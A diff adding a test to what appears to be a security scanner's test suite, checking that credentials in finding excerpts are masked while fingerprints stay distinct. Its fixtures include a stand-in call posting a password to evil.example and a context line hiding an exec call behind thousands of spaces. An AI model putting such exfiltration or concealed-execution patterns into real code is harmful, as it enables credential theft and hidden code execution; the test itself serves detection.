@@ -200,6 +200,18 @@ test("a suppression by path says nothing of findings beyond the limit", () => {
   expect(whole.subjects[0]?.notKept).toEqual({ "wheel/startup-line-runs": 40 });
 });
 
+test("credentials lose their middle, and tell findings apart all the same", () => {
+  const sends = (password: string): string | undefined => {
+    const excerpt = `post("https://me:${password}@evil.example/")`;
+    const { subjects } = judged([found("code/setup-runs", { at: {}, message: excerpt, evidence: { excerpt } })]);
+    const [finding] = subjects[0]?.findings ?? [];
+    expect(finding?.evidence.excerpt).toBe('post("https://me:***@evil.example/")');
+    expect(finding?.message).toBe(finding?.evidence.excerpt);
+    return finding?.fingerprint;
+  };
+  expect(sends("hunter2")).not.toBe(sends("hunter3"));
+});
+
 test("does not let a gap of thousands of spaces push anything out", () => {
   const excerpt = `import os;${" ".repeat(5000)}exec("evil")`;
   const { subjects } = judged([found("record/hash-mismatch", { at: {}, message: "m", evidence: { excerpt } })]);
